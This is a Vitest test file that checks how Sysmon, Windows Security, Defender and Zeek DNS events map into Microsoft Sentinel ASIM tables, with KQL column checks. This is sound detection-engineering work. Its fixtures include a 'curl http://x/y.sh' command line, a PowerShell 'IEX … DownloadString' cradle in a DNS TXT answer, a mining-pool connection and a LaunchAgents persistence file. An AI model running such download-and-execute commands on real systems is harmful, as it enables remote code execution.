import { beforeAll, describe, expect, test } from 'vitest';
import { asimRecords, corelightDnsRow, dnsCorelightZeek, kqlTableColumns } from '../src/records/index.js';
import { compileKql } from '../src/kql/index.js';
import type { KqlRecord, RawEvent } from '../src/types.js';
import { NEEDS_VENDOR } from '../../core/test/shared-data.js';
import { HAVE_BOTH, HAVE_VENDOR, NEEDS_BOTH, SYSMON, TEAMVIEWER_NETWORK, regressionEvent, regressionEvents, type RegressionEvent } from './records-fixtures.js';

const windows = { product: 'windows' } as const;

function only(records: readonly KqlRecord[]): KqlRecord {
  expect(records).toHaveLength(1);
  return records[0]!;
}

const VIAS = ['Event', 'WindowsEvent'] as const;

describe('imProcessCreate (ASimProcessCreateMicrosoftSysmon.yaml / ...SecurityEvents.yaml)', () => {
  test.skipIf(!HAVE_BOTH).each(VIAS)(`Sysmon 1 via %s: target/acting process, users, hashes ${NEEDS_BOTH}`, (via) => {
    const { event } = regressionEvent(SYSMON, 1, (e) => String(e['Image']).endsWith('SnippingTool.exe'));
    const { table, row } = only(asimRecords(event, windows, { via }));
    expect(table).toBe('imProcessCreate');
    expect(row).toMatchObject({
      EventType: 'ProcessCreated',
      EventProduct: 'Sysmon',
      EventSchema: 'ProcessEvent',
      TargetProcessName: event['Image'],
      TargetProcessId: '6180',
      TargetProcessGuid: '0197231E-F943-69E5-A527-000000000800',
      TargetUsername: 'swachchhanda\\xodih',
      ActingProcessName: event['ParentImage'],
      ActingProcessId: '6428',
      ActorUsername: 'swachchhanda\\xodih',
      TargetProcessSHA256: 'A80CB394D251F781DBD5FFB889D38FDD2095ADE63110578CA62F62CF795B7538',
      TargetProcessIMPHASH: '3D4392A18BB23C56D311A2D64B6E5BA0',
      Hash: 'A80CB394D251F781DBD5FFB889D38FDD2095ADE63110578CA62F62CF795B7538',
      HashType: 'SHA256',
      DvcHostname: 'swachchhanda',
    });
  });

  test.skipIf(!HAVE_BOTH)(`the Event branch reads command lines with their XML escapes (parse-kv does not decode entities) ${NEEDS_BOTH}`, () => {
    const { event } = regressionEvent(SYSMON, 1, (e) => String(e['CommandLine']).includes('"'));
    const viaEvent = only(asimRecords(event, windows, { via: 'Event' })).row;
    const viaWindowsEvent = only(asimRecords(event, windows, { via: 'WindowsEvent' })).row;
    expect(viaWindowsEvent['TargetProcessCommandLine']).toBe(event['CommandLine']);
    expect(viaEvent['TargetProcessCommandLine']).toBe(String(event['CommandLine']).replace(/&/g, '&amp;').replace(/"/g, '&quot;'));
  });

  test.skipIf(!HAVE_VENDOR)(`Security 4688 -> imProcessCreate with decimal ids (tostring(toint(hex))) ${NEEDS_VENDOR}`, () => {
    const e4688: RawEvent = {
      Channel: 'Security', EventID: 4688, Computer: 'ws01', SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS01$', SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7', NewProcessId: '0x1824', NewProcessName: 'C:\\Windows\\System32\\cmd.exe', TokenElevationType: '%%1936',
      ProcessId: '0x191c', CommandLine: 'cmd /c whoami', TargetUserSid: 'S-1-0-0', TargetUserName: '-', TargetDomainName: '-',
      TargetLogonId: '0x0', ParentProcessName: 'C:\\Windows\\explorer.exe', MandatoryLabel: 'S-1-16-8192',
    };
    const { table, row } = only(asimRecords(e4688, { product: 'windows', service: 'security' }));
    expect(table).toBe('imProcessCreate');
    expect(row).toMatchObject({
      EventProduct: 'Security Events', TargetProcessId: '6180', ActingProcessId: '6428', TargetProcessName: 'C:\\Windows\\System32\\cmd.exe',
      ActingProcessName: 'C:\\Windows\\explorer.exe', ActorUsername: 'CORP\\WS01$', TargetUsername: 'Local System', TargetProcessCommandLine: 'cmd /c whoami',
    });
  });
});

describe.skipIf(!HAVE_BOTH)(`imRegistry (ASimRegistryEventMicrosoftSysmon.yaml) ${NEEDS_BOTH}`, () => {
  let dword: RegressionEvent;
  // Looked up when the block runs, not when it is collected: collecting must not need the corpus.
  beforeAll(() => {
    dword = regressionEvent(SYSMON, 13, (e) => e['Details'] === 'DWORD (0x00000001)' && String(e['TargetObject']).startsWith('HKLM\\'));
  });

  test.each(VIAS)('Sysmon 13 via %s: ASIM EventType, HKLM -> HKEY_LOCAL_MACHINE, key/value split', (via) => {
    const { table, row } = only(asimRecords(dword.event, windows, { via }));
    const target = String(dword.event['TargetObject']);
    const cut = target.lastIndexOf('\\');
    expect(table).toBe('imRegistry');
    expect(row).toMatchObject({
      EventType: 'RegistryValueSet',
      EventOriginalSubType: 'SetValue',
      RegistryKey: `HKEY_LOCAL_MACHINE${target.slice(4, cut)}`,
      RegistryValue: target.slice(cut + 1),
      ActingProcessName: dword.event['Image'],
    });
  });

  test('RegistryValueData: the Event branch reads Details; the WindowsEvent branch reads EventData.Parameter, which Sysmon never writes', () => {
    expect(only(asimRecords(dword.event, windows, { via: 'Event' })).row['RegistryValueData']).toBe('DWORD (0x00000001)');
    expect(only(asimRecords(dword.event, windows, { via: 'WindowsEvent' })).row['RegistryValueData']).toBe('');
  });

  test.each([
    ['HKU\\S-1-5-21-1\\Software\\x', 'HKEY_USERS\\S-1-5-21-1\\Software'],
    ['HKCR\\CLSID\\{x}\\InprocServer32', 'HKEY_LOCAL_MACHINE\\Classes\\CLSID\\{x}'],
  ])('hive %s is rewritten by the Hives table', (target, key) => {
    const { row } = only(asimRecords({ ...dword.event, TargetObject: target }, windows));
    expect(row['RegistryKey']).toBe(key);
  });

  test('Sysmon 12 events map to RegistryKeyDeleted / RegistryValueDeleted / RegistryKeyCreated', () => {
    const want: Record<string, string> = { DeleteKey: 'RegistryKeyDeleted', DeleteValue: 'RegistryValueDeleted', CreateKey: 'RegistryKeyCreated' };
    for (const { event } of regressionEvents().filter((r) => r.event['Channel'] === SYSMON && r.event['EventID'] === 12)) {
      expect(only(asimRecords(event, windows)).row['EventType']).toBe(want[String(event['EventType'])]);
    }
  });
});

describe('imNetworkSession, imFileEvent, imDns', () => {
  test.skipIf(!HAVE_VENDOR).each(VIAS)(`Sysmon 3 via %s -> imNetworkSession, the outbound process as Dst* (as the parser writes it) ${NEEDS_VENDOR}`, (via) => {
    const { table, row } = only(asimRecords(TEAMVIEWER_NETWORK, windows, { via }));
    expect(table).toBe('imNetworkSession');
    expect(row).toMatchObject({
      EventType: 'EndpointNetworkSession', SrcIpAddr: '10.0.0.5', DstIpAddr: '185.188.32.1', DstPortNumber: 443, SrcPortNumber: 50123,
      NetworkProtocol: 'TCP', DstProcessName: TEAMVIEWER_NETWORK['Image'], DstAppName: 'TeamViewer.exe', SrcProcessName: '', DstFQDN: 'router1.teamviewer.com',
    });
    // SrcHostname: the WindowsEvent branch reads EventData.SrcHostname, a name Sysmon does not write.
    expect(row['SrcHostname']).toBe(via === 'Event' ? 'ws01' : '');
  });

  test.skipIf(!HAVE_BOTH)(`Sysmon 11 -> imFileEvent FileCreated with the file name split off ${NEEDS_BOTH}`, () => {
    const { event } = regressionEvent(SYSMON, 11);
    const { table, row } = only(asimRecords(event, windows));
    expect(table).toBe('imFileEvent');
    expect(row).toMatchObject({ EventType: 'FileCreated', TargetFilePath: event['TargetFilename'], TargetFileName: String(event['TargetFilename']).split('\\').at(-1), ActingProcessName: event['Image'] });
  });

  test.skipIf(!HAVE_VENDOR)(`Sysmon 22 -> imDns through WindowsEvent only (the Event branch is commented out in the parser) ${NEEDS_VENDOR}`, () => {
    const dns: RawEvent = { Channel: SYSMON, EventID: 22, Computer: 'ws01', RuleName: '-', UtcTime: '2026-04-20 10:00:00.000', ProcessGuid: '0197231E-F943-69E5-A527-000000000900', ProcessId: 10, QueryName: 'evil.example', QueryStatus: '9003', QueryResults: '-', Image: 'C:\\x\\a.exe', User: 'CORP\\alice' };
    const { table, row } = only(asimRecords(dns, windows, { via: 'WindowsEvent' }));
    expect(table).toBe('imDns');
    expect(row).toMatchObject({ DnsQuery: 'evil.example', DnsResponseCode: 3, DnsResponseCodeName: 'NXDOMAIN', EventResult: 'Failure', SrcProcessName: 'C:\\x\\a.exe', DnsResponseName: '', SrcProcessGuid: '0197231E-F943-69E5-A527-000000000900' });
    expect(asimRecords(dns, windows, { via: 'Event' })).toEqual([]);
  });

  test.skipIf(!HAVE_BOTH).each([
    [SYSMON, 7],
    [SYSMON, 10],
    [SYSMON, 17],
    ['Security', 4648],
  ])(`%s %i has no ASIM view here -> [] ${NEEDS_BOTH}`, (channel, id) => {
    expect(asimRecords(regressionEvent(channel, id).event, windows)).toEqual([]);
  });
});

describe.skipIf(!HAVE_BOTH)(`view columns ${NEEDS_BOTH}`, () => {
  test('kqlTableColumns of each view lists every column the rows carry and the schema page fields', () => {
    const rows = [...regressionEvents().map((r) => r.event), TEAMVIEWER_NETWORK].flatMap((e) => VIAS.flatMap((via) => asimRecords(e, windows, { via })));
    const views = new Set(rows.map((r) => r.table));
    expect([...views].sort()).toEqual(['imFileEvent', 'imNetworkSession', 'imProcessCreate', 'imRegistry']);
    for (const r of rows) {
      const cols = kqlTableColumns(r.table)!;
      for (const k of Object.keys(r.row)) expect(cols, `${r.table}.${k}`).toHaveProperty(k);
      // a union view: every row holds every column of the view
      expect(Object.keys(r.row).sort()).toEqual(Object.keys(cols).sort());
    }
    expect(kqlTableColumns('imRegistry')).toMatchObject({ RegistryKey: 'string', RegistryValueData: 'string', EventType: 'string', EventCount: 'int' });
    expect(kqlTableColumns('imDns')).toMatchObject({ DnsQuery: 'string', DnsResponseCode: 'int' });
  });
});

describe('Linux and macOS processes (Defender parser)', () => {
  test.skipIf(!HAVE_VENDOR).each(['linux', 'macos'])(`%s process_creation -> imProcessCreate via ASimProcessEventMicrosoft365D ${NEEDS_VENDOR}`, (product) => {
    const event: RawEvent = { Image: '/usr/bin/curl', CommandLine: 'curl -s http://x/y.sh', ParentImage: '/bin/bash', User: 'root', ProcessId: 4242 };
    const { table, row } = only(asimRecords(event, { product, category: 'process_creation' }));
    expect(table).toBe('imProcessCreate');
    expect(row).toMatchObject({
      EventProduct: 'M365 Defender for Endpoint',
      EventSchema: 'ProcessEvent',
      TargetProcessName: '/usr/bin/curl',
      TargetProcessFilename: 'curl',
      TargetProcessCommandLine: 'curl -s http://x/y.sh',
      CommandLine: 'curl -s http://x/y.sh',
      ActingProcessName: '/bin/bash',
      TargetUsername: 'root',
      TargetProcessId: '4242',
    });
  });

  test('other Linux categories have no view row here', () => {
    expect(asimRecords({ Image: '/usr/bin/curl' }, { product: 'linux', category: 'process_termination' })).toEqual([]);
    expect(asimRecords({ TargetFilename: '/tmp/x', Image: '/usr/bin/rm' }, { product: 'linux', category: 'file_delete' })).toEqual([]);
  });
});

// Expected values below are read off the parsers by hand, over the Defender rows defenderRecords builds (ActionType
// ConnectionSuccess for Initiated true, InboundConnectionAccepted for false; RemoteUrl = DestinationHostname on
// outbound rows; FolderPath = the full path, FileName its last segment; InitiatingProcessFileName = Image's file name).
describe('Linux and macOS connections (ASimNetworkSessionMicrosoft365Defender.yaml)', () => {
  const linuxNet = { product: 'linux', category: 'network_connection' } as const;
  const outbound: RawEvent = {
    Initiated: 'true', DestinationHostname: 'pool.minexmr.com', DestinationIp: '203.0.113.7', DestinationPort: '3333', SourceIp: '10.0.0.5',
    SourcePort: '40112', Protocol: 'tcp', Image: '/usr/bin/curl', User: 'root', ProcessId: '4242', Computer: 'web01.corp.local',
  };

  test.skipIf(!HAVE_VENDOR)(`outbound: Dst* from Remote*, the process as Src*, DstHostname the URL's first label, SrcFQDN = DvcDomain ${NEEDS_VENDOR}`, () => {
    const { table, row } = only(asimRecords(outbound, linuxNet));
    expect(table).toBe('imNetworkSession');
    expect(row).toMatchObject({
      EventProduct: 'M365 Defender for Endpoint', EventVendor: 'Microsoft', EventType: 'NetworkSession', EventResult: 'Success', EventCount: 1,
      EventOriginalResultDetails: 'ConnectionSuccess', NetworkDirection: 'Outbound', NetworkProtocol: 'TCP',
      // :91-94
      DstIpAddr: '203.0.113.7', DstPortNumber: 3333, SrcIpAddr: '10.0.0.5', SrcPortNumber: 40112,
      // :74-76, :105-109: split(RemoteUrl, ".")
      DstHostname: 'pool', DstDomain: 'minexmr.com', DstFQDN: 'pool.minexmr.com', DstDomainType: 'FQDN', Hostname: 'pool',
      // :71-73, :111-113 (SrcFQDN = DvcDomain, sic)
      DvcHostname: 'web01', DvcDomain: 'corp.local', DvcFQDN: 'web01.corp.local', Dvc: 'web01', DvcIpAddr: '10.0.0.5',
      SrcHostname: 'web01', SrcDomain: 'corp.local', SrcFQDN: 'corp.local',
      // :116-136: InitiatingProcessFileName, the file name only
      SrcProcessName: 'curl', SrcAppName: 'curl', SrcAppType: 'Process', Process: 'curl', SrcProcessId: '4242', DstProcessName: '',
      // :60-61, :100, :103 (an empty SID is not "S-1-0-0")
      SrcUsername: 'root', SrcUsernameType: 'Simple', User: 'root', SrcUserId: '', SrcUserIdType: 'SID',
      IpAddr: '10.0.0.5', Src: '10.0.0.5', Dst: '203.0.113.7', InitiatingProcessFolderPath: '/usr/bin/curl',
    });
    // Renamed or projected away by the parser (:38, :53-56, :69, :77, :86, :91-98, :118-125, :187-188).
    for (const gone of ['ActionType', 'Timestamp', 'ReportId', 'RemoteIP', 'LocalIP', 'RemotePort', 'LocalPort', 'RemoteUrl', 'DeviceName', 'DeviceId', 'Protocol', 'UsernameType',
      'SplitUrl', 'SplitHostname', 'UrlHostname', 'Outbound', 'InitiatingProcessFileName', 'InitiatingProcessAccountSid', 'LocalIPType']) {
      expect(row, gone).not.toHaveProperty(gone);
    }
    expect(Object.keys(row).sort()).toEqual(Object.keys(kqlTableColumns('imNetworkSession')!).sort());
  });

  test.skipIf(!HAVE_VENDOR)(`inbound: Src* from Remote*, the process and the device as Dst*, no Dvc host columns ${NEEDS_VENDOR}`, () => {
    const inbound: RawEvent = {
      Initiated: 'false', SourceIp: '198.51.100.20', SourcePort: '51515', DestinationIp: '10.0.0.5', DestinationPort: '22', Protocol: 'tcp',
      Image: '/usr/sbin/sshd', User: 'root', Computer: 'web01.corp.local',
    };
    const { table, row } = only(asimRecords(inbound, linuxNet));
    expect(table).toBe('imNetworkSession');
    expect(row).toMatchObject({
      NetworkDirection: 'Inbound', EventOriginalResultDetails: 'InboundConnectionAccepted', EventType: 'NetworkSession',
      // :141-144
      SrcIpAddr: '198.51.100.20', SrcPortNumber: 51515, DstIpAddr: '10.0.0.5', DstPortNumber: 22,
      // :159-161 rename the Dvc host columns to Dst*; :154-158 the (empty) URL to Src*
      DstHostname: 'web01', DstDomain: 'corp.local', DstFQDN: 'web01.corp.local', DvcHostname: '', DvcDomain: '', DvcFQDN: '', Dvc: 'web01',
      SrcHostname: '', SrcFQDN: '', Hostname: '', DvcIpAddr: '10.0.0.5',
      DstProcessName: 'sshd', DstAppName: 'sshd', DstAppType: 'Process', Process: 'sshd', SrcProcessName: '',
      DstUsername: 'root', DstUsernameType: 'Simple', DstUserIdType: 'SID', SrcUsername: '',
      IpAddr: '198.51.100.20', Src: '198.51.100.20', Dst: '10.0.0.5',
    });
  });

  test.skipIf(!HAVE_VENDOR)(`the URL's http(s):// prefix is stripped (:58); macOS goes the same way ${NEEDS_VENDOR}`, () => {
    const { row } = only(asimRecords({ ...outbound, DestinationHostname: 'https://evil.example.org' }, { product: 'macos', category: 'network_connection' }));
    expect(row).toMatchObject({ DstFQDN: 'evil.example.org', DstHostname: 'evil', DstDomain: 'example.org', NetworkDirection: 'Outbound', SrcProcessName: 'curl' });
  });
});

describe('Linux and macOS files (ASimFileEventMicrosoft365D.yaml)', () => {
  test.skipIf(!HAVE_VENDOR)(`Linux file_event: DvcOs Linux from the "/" path, TargetFilePath = FolderPath "/" FileName ${NEEDS_VENDOR}`, () => {
    const event: RawEvent = { TargetFilename: '/etc/doas.conf', Image: '/usr/bin/cp', User: 'root', ProcessId: '777', Computer: 'web01' };
    const { table, row } = only(asimRecords(event, { product: 'linux', category: 'file_event' }));
    expect(table).toBe('imFileEvent');
    expect(row).toMatchObject({
      EventType: 'FileCreated', EventProduct: 'M365 Defender for Endpoint', EventSchema: 'FileEvent', EventSchemaVersion: '0.2.1', EventResult: 'Success',
      // :86, :89, :108-111 (FolderPath holds the full path: assumption defender-folderpath-full)
      TargetFileName: 'doas.conf', FileName: 'doas.conf', DvcOs: 'Linux', TargetFilePath: '/etc/doas.conf/doas.conf', FilePath: '/etc/doas.conf/doas.conf',
      TargetFilePathType: 'Unix', SrcFilePath: '/', SrcFilePathType: 'Unix',
      // :79, :94, :123
      ActingProcessName: '/usr/bin/cp', Process: '/usr/bin/cp', ActingProcessId: '777',
      // :63, :104-107: strcat(Domain, '\\', Name) with no domain
      ActorWindowsUsername: '\\root', ActorUsername: '\\root', User: '\\root', ActorUsernameType: 'Windows', ActorUserId: '', ActorUserIdType: 'AADID',
      // :112, :117: no hash at all -> index of "" is 0
      Hash: '', HashType: 'SHA256',
      DvcHostname: 'web01', Dvc: 'web01', DvcIdType: 'MDEid', EventCount: 1,
    });
    for (const gone of ['FolderPath', 'ActionType', 'DeviceName', 'DeviceId', 'Timestamp', 'InitiatingProcessFileName', 'InitiatingProcessFolderPath',
      'InitiatingProcessAccountName', 'InitiatingProcessId', 'RequestAccountName', 'ReportId', 'FileOriginUrl', 'ShareName', 'SensitivityLabel', 'MD5']) {
      expect(row, gone).not.toHaveProperty(gone);
    }
    expect(Object.keys(row).sort()).toEqual(Object.keys(kqlTableColumns('imFileEvent')!).sort());
  });

  test.skipIf(!HAVE_VENDOR)(`HashType is the first of SHA256/SHA1/MD5 equal to Hash (:112, :117) ${NEEDS_VENDOR}`, () => {
    const event: RawEvent = { TargetFilename: '/tmp/x.sh', Image: '/usr/bin/curl', Hashes: 'MD5=AAAA,SHA1=BBBB' };
    const { row } = only(asimRecords(event, { product: 'linux', category: 'file_event' }));
    expect(row).toMatchObject({ TargetFileSHA1: 'BBBB', TargetFileMD5: 'AAAA', TargetFileSHA256: '', Hash: 'BBBB', HashType: 'SHA1' });
  });

  test.skipIf(!HAVE_VENDOR)(`macOS file_event: "/" paths make DvcOs "Linux" too (:89) ${NEEDS_VENDOR}`, () => {
    const event: RawEvent = { TargetFilename: '/Users/alice/Library/LaunchAgents/com.evil.plist', Image: '/bin/zsh' };
    const { table, row } = only(asimRecords(event, { product: 'macos', category: 'file_event' }));
    expect(table).toBe('imFileEvent');
    expect(row).toMatchObject({
      EventType: 'FileCreated', DvcOs: 'Linux', TargetFileName: 'com.evil.plist', TargetFilePathType: 'Unix',
      TargetFilePath: '/Users/alice/Library/LaunchAgents/com.evil.plist/com.evil.plist', ActingProcessName: '/bin/zsh', ActorUsername: '\\',
    });
  });

  test.skipIf(!HAVE_VENDOR)(`view columns: the parsers' own, Defender columns left as they are keep their type ${NEEDS_VENDOR}`, () => {
    expect(kqlTableColumns('imFileEvent')).toMatchObject({
      TargetFileSize: 'long', FileSize: 'long', IsInitiatingProcessRemoteSession: 'bool', ActingProcessCreationTime: 'datetime', DvcMDEid: 'string',
      // the remote branch (:27-53), which no built row takes
      TargetUserUpn: 'string', TargetWindowsUsername: 'string', SrcIpAddr: 'string', SrcPortNumber: 'int',
    });
    expect(kqlTableColumns('imNetworkSession')).toMatchObject({
      EventOriginalResultDetails: 'string', InitiatingProcessId: 'long', SrcProcessCreationTime: 'datetime', DstProcessCreationTime: 'datetime',
      DstUserAadId: 'string', SrcUserUpn: 'string', EventCount: 'int', DstPortNumber: 'int',
    });
  });
});

describe('Zeek dns.log -> Corelight_CL -> imDns (ASimDnsCorelightZeek.yaml @ 2d6149a6)', () => {
  const zeek = { product: 'zeek', service: 'dns' } as const;
  // The expected values below are read off the parser text by hand: :123 where, :124-149 parse-kv, :150 parse,
  // :151-157 extend, :158-181 project-rename, :182-183 lookups, :184-192 extend, :195-201 aliases.
  const MINER: RawEvent = { query: 'pool.minexmr.com', qtype_name: 'A', rcode_name: 'NOERROR', answers: ['1.2.3.4'], TTLs: [60], 'id.orig_h': '10.0.0.5', 'id.resp_p': 53, Z: 0 };

  test('the Corelight_CL Message is the dns.log JSON line: record order, numbers derived from names, &default columns, TTLs as doubles', () => {
    expect(corelightDnsRow(MINER, zeek)).toEqual({
      TimeGenerated: null,
      Message:
        '{"_path":"dns","id.orig_h":"10.0.0.5","id.resp_p":53,"query":"pool.minexmr.com","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR",' +
        '"AA":false,"TC":false,"RD":false,"RA":false,"Z":0,"answers":["1.2.3.4"],"TTLs":[60.0],"rejected":false}',
    });
  });

  test.skipIf(!HAVE_VENDOR)(`a Zeek dns event -> imDns ${NEEDS_VENDOR}`, () => {
    const { table, row } = only(asimRecords(MINER, zeek));
    expect(table).toBe('imDns');
    expect(row).toMatchObject({
      DnsQuery: 'pool.minexmr.com', Domain: 'pool.minexmr.com', DnsQueryType: 1, DnsQueryTypeName: 'A', DnsResponseCode: 0,
      EventResultDetails: 'NOERROR', DnsResponseCodeName: 'NOERROR', EventSubType: 'response', EventResult: 'Success',
      DnsResponseName: '{"answers":"[\\"1.2.3.4\\"]","ttls":"[60.0]"}',
      SrcIpAddr: '10.0.0.5', Src: '10.0.0.5', IpAddr: '10.0.0.5', DstPortNumber: 53, SrcPortNumber: null, DstIpAddr: '', Dst: '',
      DnsFlagsZ: false, DnsFlagsAuthoritative: false, DnsFlagsCheckingDisabled: null, DnsQueryClass: null, DnsQueryClassName: '',
      DnsNetworkDuration: null, Duration: null, TransactionIdHex: '', EventStartTime: null, EventEndTime: null, Dvc: '',
      EventProduct: 'Zeek', EventVendor: 'Corelight', EventSchema: 'Dns', EventSchemaVersion: '0.1.4', EventType: 'Query', EventCount: 1,
    });
    // projected away (:193, :202)
    for (const gone of ['Message', 'rtt', 'Z', 'TTLs', 'answers', 'trans_id', 'rejected', '"query"']) expect(row).not.toHaveProperty(gone);
  });

  test.skipIf(!HAVE_VENDOR)(`answers without TTLs get one 0.0 TTL each (assumption zeek-dns-ttls) ${NEEDS_VENDOR}`, () => {
    const { TTLs: _ttls, ...event } = MINER;
    expect(only(asimRecords(event, zeek)).row['DnsResponseName']).toBe('{"answers":"[\\"1.2.3.4\\"]","ttls":"[0.0]"}');
  });

  test.skipIf(!HAVE_VENDOR)(`a generic category: dns event is read as Zeek dns.log (assumption dns-generic-as-zeek) ${NEEDS_VENDOR}`, () => {
    const event: RawEvent = { query: 'evil.example', record_type: 'TXT', answer: 'IEX (New-Object Net.WebClient).DownloadString("http://x")' };
    expect(corelightDnsRow(event, { category: 'dns' })!.Message).toBe(
      '{"_path":"dns","query":"evil.example","qtype":16,"qtype_name":"TXT","AA":false,"TC":false,"RD":false,"RA":false,"Z":0,' +
        String.raw`"answers":["IEX (New-Object Net.WebClient).DownloadString(\"http://x\")"],"TTLs":[0.0],"rejected":false}`,
    );
    const { table, row } = only(asimRecords(event, { category: 'dns' }));
    expect(table).toBe('imDns');
    expect(row).toMatchObject({
      DnsQuery: 'evil.example', DnsQueryType: 16, DnsQueryTypeName: 'TXT',
      // no rcode: a request, and `"" !~ 'NOERROR'` makes it a Failure (:185, :187)
      EventSubType: 'request', EventResult: 'Failure', DnsResponseCode: null, EventResultDetails: '',
      // the answers array as the line writes it (JSON escapes included), then JSON-escaped again as a bag value
      DnsResponseName: String.raw`{"answers":"[\"IEX (New-Object Net.WebClient).DownloadString(\\\"http://x\\\")\"]","ttls":"[0.0]"}`,
    });
    const query = compileKql('imDns | where DnsQueryTypeName == "TXT" and DnsResponseName contains "IEX"');
    expect(query.run({ imDns: { name: 'imDns', columns: kqlTableColumns('imDns')!, rows: [row] } }).rows).toHaveLength(1);
  });

  test.skipIf(!HAVE_VENDOR).each([
    // a name Zeek does not know: the line keeps it, no number is written, so the parser has no type (:182, :188)
    [{ qtype_name: 'BOGUS' }, '"qtype_name":"BOGUS"', null, ''],
    // names are matched case-insensitively; Zeek's "*" is Microsoft's "ANY"
    [{ qtype_name: 'ns' }, '"qtype":2,"qtype_name":"ns"', 2, 'NS'],
    [{ qtype_name: '*' }, '"qtype":255,"qtype_name":"*"', 255, 'ANY'],
    // a type Zeek names but Microsoft's table lacks: TYPE<n> (:188)
    [{ qtype_name: 'HTTPS' }, '"qtype":65,"qtype_name":"HTTPS"', 65, 'TYPE65'],
    // a number alone gets Zeek's &default name (consts.zeek:105), the parser TYPE<n>
    [{ qtype: 9999 }, '"qtype":9999,"qtype_name":"query-9999"', 9999, 'TYPE9999'],
  ] as const)(`query type %j -> %s, DnsQueryType %s, DnsQueryTypeName %j ${NEEDS_VENDOR}`, (fields, inLine, type, name) => {
    const event: RawEvent = { query: 'x.example', ...fields };
    expect(corelightDnsRow(event, zeek)!.Message).toContain(inLine);
    expect(only(asimRecords(event, zeek)).row).toMatchObject({ DnsQueryType: type, DnsQueryTypeName: name });
  });

  test.skipIf(!HAVE_VENDOR)(`parse-kv reads every value as text: rtt to its first ".", JSON escapes as written, the first quote ends a value ${NEEDS_VENDOR}`, () => {
    const event: RawEvent = { query: 'a\\b', rtt: 0.0068, trans_id: 300, ts: 1591367999.305988, uid: 'CFl2ra4eJhk9DpOFYk', 'id.orig_p': 57844, proto: 'udp', rcode_name: 'NXDOMAIN' };
    expect(corelightDnsRow(event, zeek)).toEqual({
      TimeGenerated: new Date('2020-06-05T14:39:59.306Z'),
      Message:
        '{"_path":"dns","ts":"2020-06-05T14:39:59.305988Z","uid":"CFl2ra4eJhk9DpOFYk","id.orig_p":57844,"proto":"udp","trans_id":300,"rtt":0.0068,' +
        String.raw`"query":"a\\b","rcode":3,"rcode_name":"NXDOMAIN","AA":false,"TC":false,"RD":false,"RA":false,"Z":0,"rejected":false}`,
    });
    const { row } = only(asimRecords(event, zeek));
    expect(row).toMatchObject({
      DnsQuery: 'a\\\\b', DnsNetworkDuration: 0, Duration: 0, TransactionIdHex: '12c', EventOriginalUid: 'CFl2ra4eJhk9DpOFYk', SrcPortNumber: 57844,
      NetworkProtocol: 'udp', DnsResponseCode: 3, EventResult: 'Failure', EventSubType: 'response', EventStartTime: new Date('2020-06-05T14:39:59.305Z'),
      DnsResponseName: '{"answers":"","ttls":""}',
    });
    expect(only(asimRecords({ query: 'a"b', rtt: 2.5 }, zeek)).row).toMatchObject({ DnsQuery: 'a\\', DnsNetworkDuration: 2000 });
    expect(only(asimRecords({ query: 'x', rcode_name: 'NOERROR', rejected: 'true' }, zeek)).row['EventResult']).toBe('Failure');
  });

  test('a Message that is not a dns log gives no row (:123), nor does another Zeek log or another source', () => {
    expect(dnsCorelightZeek({ TimeGenerated: null, Message: '{"_path":"conn","uid":"C1","id.orig_h":"10.0.0.5","query":"x"}' })).toBeUndefined();
    expect(dnsCorelightZeek({ TimeGenerated: null, Message: '{"_path":"dns","query":"x"}' })).toMatchObject({ DnsQuery: 'x' });
    expect(corelightDnsRow({ query: 'x' }, { product: 'zeek', service: 'http' })).toBeUndefined();
    expect(corelightDnsRow({ query: 'x' }, { product: 'windows', category: 'dns_query' })).toBeUndefined();
  });

  test.skipIf(!HAVE_VENDOR)(`view columns: the parser's columns, typed by its casts ${NEEDS_VENDOR}`, () => {
    expect(kqlTableColumns('imDns')).toMatchObject({
      DnsResponseName: 'string', DnsQueryTypeName: 'string', DnsQueryClassName: 'string', TransactionIdHex: 'string', EventSubType: 'string',
      EventOriginalUid: 'string', Dvc: 'string', Duration: 'int', DnsNetworkDuration: 'int', DnsFlagsZ: 'bool', DnsFlagsCheckingDisabled: 'bool',
      DnsQueryType: 'int', DnsQueryClass: 'int', EventStartTime: 'datetime', EventEndTime: 'datetime', TimeGenerated: 'datetime',
    });
  });
});
